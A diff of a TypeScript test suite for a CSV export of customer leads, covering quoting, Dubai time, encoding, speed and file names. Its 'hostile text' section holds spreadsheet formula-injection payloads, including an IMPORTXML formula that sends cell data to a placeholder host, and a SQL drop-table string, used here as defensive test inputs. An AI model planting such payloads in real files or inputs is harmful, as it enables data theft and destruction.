@@ -10,7 +10,10 @@ import { at, followUp, lead } from './fixtures';
 const HEADER = '\uFEFF"Name","Phone","Email","Inquiry","Source","Date","Message","Id"\r\n';
 const csvOf = (...leads: Lead[]) => leadsCsv(leads);
 
-/** The cells of a file, read as RFC 4180 says; throws where it is not one. */
+/**
+ * Parses a file as RFC 4180 defines it.
+ * @throws if a cell is malformed.
+ */
 function cellsOf(csv: string): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
@@ -29,13 +32,13 @@ function cellsOf(csv: string): string[][] {
 }
 
 describe('the file', () => {
-  test('a lead, with the time of Dubai', () => {
+  test('shows a lead with its time in Dubai', () => {
     expect(csvOf(lead({ id: '7' }))).toBe(
       `${HEADER}"Mariam Khoury","'+971 50 000 0012","mariam.k@example.com","lip-blush","hero_booking","2026-11-20 14:08:00","Booking request from hero section","7"\r\n`,
     );
   });
 
-  test('with the desk’s columns behind the id, once its follow-ups are there', () => {
+  test('adds the follow-up columns after the id once follow-ups are loaded', () => {
     const answered = { state: 'Contacted', ownerName: 'Maya', firstContactAt: at('2026-11-20 16:09') } as const;
     const followUps = [followUp('8', answered), followUp('9', answered), followUp('10', { state: 'Lost' })];
     const csv = leadsCsv(
@@ -51,32 +54,32 @@ describe('the file', () => {
     ]);
   });
 
-  test('no lead: the header alone', () => {
+  test('has only a header when there are no leads', () => {
     expect(csvOf()).toBe(HEADER);
   });
 
-  test('what was not given is empty, and so is a time that cannot be read', () => {
+  test('leaves missing values and an unreadable time empty', () => {
     const bare = lead({ id: '1', name: '', phone: '', email: '', service: '', source: '', message: '' });
     expect(csvOf({ ...bare, createdAt: Number.NaN })).toBe(`${HEADER}"","","","","","","","1"\r\n`);
   });
 
-  test('the day turns in Dubai at 20:00 UTC', () => {
+  test('starts a new day at midnight in Dubai, 20:00 UTC', () => {
     const late = lead({ id: '1', createdAt: Date.UTC(2026, 11, 31, 20, 0, 5, 900) });
     expect(cellsOf(csvOf(late))[1]?.[5]).toBe('2027-01-01 00:00:05');
   });
 
-  test('leads keep their order', () => {
+  test('keeps the order of the leads', () => {
     const leads = ['c', 'a', 'b'].map((id) => lead({ id }));
     expect(cellsOf(csvOf(...leads)).map((cells) => cells.at(-1))).toEqual(['Id', 'c', 'a', 'b']);
   });
 
-  test('quotes, commas and line breaks stay inside of their cell', () => {
+  test('keeps quotes, commas and line breaks inside their cell', () => {
     const csv = csvOf(lead({ id: '1', name: 'Mariam "Mimi" Khoury, Dr.', message: 'one\r\ntwo\rthree\u2028four' }));
     expect(csv).toContain('"Mariam ""Mimi"" Khoury, Dr.",');
     expect(csv).toContain('"one\ntwo\nthree\nfour",');
   });
 
-  test('Arabic names as UTF-8 behind a byte order mark', () => {
+  test('writes Arabic names as UTF-8 after a byte order mark', () => {
     const bytes = new TextEncoder().encode(csvOf(lead({ id: '1', name: 'ريم' })));
     expect(Array.from(bytes.subarray(0, 4))).toEqual([0xef, 0xbb, 0xbf, 0x22]);
     expect(new TextDecoder().decode(bytes)).toContain('"ريم",');
@@ -84,7 +87,7 @@ describe('the file', () => {
 });
 
 describe('hostile text', () => {
-  /** Those of the list that a spreadsheet may compute or round, phone numbers among them. */
+  /** Strings of the list that a spreadsheet may evaluate or round, such as phone numbers. */
   const formulas = new Set([
     '=HYPERLINK("http://x","y")',
     '=IMPORTXML("http://x/?"&A1,"//a")',
@@ -98,14 +101,14 @@ describe('hostile text', () => {
     '＝1',
     '007',
   ]);
-  /** Those with a formula behind a separator. */
-  const inside = new Map([
+  /** Strings of the list with a formula after a separator, and how each is written. */
+  const innerFormulas = new Map([
     ['\r=1', "'\n'=1"],
     ['\n=1', "'\n'=1"],
     ['"; drop table lead_form;--', '"; drop table lead_form;\'--'],
   ]);
 
-  test('every string of the list is the text of its cells, and formulas begin with an apostrophe', () => {
+  test('every string of the list is written as text, and formulas get a leading apostrophe', () => {
     const leads = HOSTILE.map(({ given }, index) =>
       lead({
         id: String(index),
@@ -120,7 +123,7 @@ describe('hostile text', () => {
     const rows = cellsOf(csvOf(...leads)).slice(1);
     expect(rows).toHaveLength(HOSTILE.length);
     HOSTILE.forEach(({ given, sent = given, shown = sent }, index) => {
-      const text = inside.get(given) ?? (formulas.has(given) ? `'${shown}` : shown);
+      const text = innerFormulas.get(given) ?? (formulas.has(given) ? `'${shown}` : shown);
       expect(rows[index], given).toEqual([text, text, text, text, text, '2026-11-20 14:08:00', text, String(index)]);
     });
   });
@@ -154,7 +157,7 @@ describe('hostile text', () => {
     ['x\t=1', 'x =1'],
     ['x;+1+1', "x;'+1+1"],
     ['x;+971-50-123', "x;'+971-50-123"],
-    // A list of hyphens is all that changes in prose.
+    // In prose, only lines that begin with a hyphen change.
     ['I would like:\n- brows', "I would like:\n'- brows"],
     ['Jean-Luc, 10-15 o’clock; semi-permanent - or not', 'Jean-Luc, 10-15 o’clock; semi-permanent - or not'],
     ['فاطمة، أريد - شكراً', 'فاطمة، أريد - شكراً'],
@@ -164,7 +167,7 @@ describe('hostile text', () => {
     expect(cellsOf(csvOf(lead({ id: '1', name: given })))[1]?.[0]).toBe(written);
   });
 
-  test.each([',', ';', '\t'])('opened with %j, with quotes or without them, no cell begins like a formula', (separator) => {
+  test.each([',', ';', '\t'])('split at %j, whether or not quotes are respected, no cell begins like a formula', (separator) => {
     const signs = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1', '=HYPERLINK("http://x","y")'];
     const before = ['', 'x', ';', ',', '\t', '\n', '"'].flatMap((a) => ['', ' ', '"', '""', '\n', '\u200b', ';"'].map((b) => a + b));
     const leads = signs.flatMap((sign, at) =>
@@ -179,7 +182,7 @@ describe('hostile text', () => {
     expect(cells.filter((cell) => /^["\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
   });
 
-  test('no control character, no half of a surrogate pair', () => {
+  test('contains no control character and no lone surrogate', () => {
     const all = Array.from({ length: 0xa0 }, (_, code) => String.fromCodePoint(code)).join('');
     const cell = cellsOf(csvOf(lead({ id: '1', name: `x${all}\ud800` })))[1]?.[0] ?? '';
     expect(cell.replace(/\n/g, '')).not.toMatch(/\p{Cc}/u);
@@ -188,17 +191,17 @@ describe('hostile text', () => {
   });
 });
 
-test('50,000 leads in well under a second', () => {
+test('50,000 leads take less than a second of CPU time', () => {
   const message = 'I would like "natural" brows,\nand lips.'.repeat(5);
   const entries = Array.from({ length: 50_000 }, (_, index) => lead({ id: String(index), message }));
-  // Of the processor, not of the clock: other tests run beside this one.
+  // CPU time rather than elapsed time: other tests run in parallel.
   const { user } = process.threadCpuUsage();
   const csv = leadsCsv(entries);
   expect((process.threadCpuUsage().user - user) / 1000).toBeLessThan(1000);
   expect(csv.endsWith(',"49999"\r\n')).toBe(true);
 });
 
-describe('the name of the file', () => {
+describe('the file name', () => {
   // 00:30 on 21 November in Dubai.
   const now = Date.parse('2026-11-20T20:30:00Z');
 
@@ -219,7 +222,7 @@ describe('the name of the file', () => {
     expect(csvFileName({ ...NO_FILTER, ...filter }, now)).toBe(name);
   });
 
-  test.each(HOSTILE.map(({ given }) => given))('%j makes no name that a system refuses', (source) => {
+  test.each(HOSTILE.map(({ given }) => given))('%j gives a name that every operating system accepts', (source) => {
     const name = csvFileName({ ...NO_FILTER, source, service: source, search: source }, now);
     expect(name).toMatch(/^leads-2026-11-21-[\p{L}\p{N}_][\p{L}\p{N}_-]*\.csv$/u);
     expect(new TextEncoder().encode(name).length).toBeLessThan(256);
